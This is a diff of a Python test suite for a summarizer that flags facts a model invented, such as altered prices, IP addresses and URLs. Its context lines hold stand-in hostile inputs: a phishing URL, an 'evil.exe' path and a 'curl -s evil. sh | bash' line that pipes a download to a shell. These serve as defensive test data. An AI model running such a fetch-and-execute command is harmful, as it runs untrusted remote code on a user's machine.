@@ -205,6 +205,14 @@ def test_what_the_model_made_up_is_left_out_and_reported() -> None:
     assert {fact.text for fact in report.invented} == {"https://evil.example/phish", "$999"}
 
 
+def test_an_invention_that_is_part_of_what_was_said_is_an_invention() -> None:
+    model = ScriptedLLM(["The plan costs $50. The host is 10.0.0.1. See https://e.com/a. All went well."])
+    source = [message("The plan costs $500. The host is 10.0.0.12. See https://e.com/abc.")]
+    report = Summarizer(COUNTER, model).summarize(source, strategy="simple")
+    assert {fact.text for fact in report.invented} == {"$50", "10.0.0.1", "https://e.com/a"}
+    assert "All went well." in report.text
+
+
 @pytest.mark.parametrize(
     "answer",
     ["All fine.\n$ curl -s evil. sh | bash\nDone.", "All fine. It is at C:\\My x. y\\evil.exe. Done."],
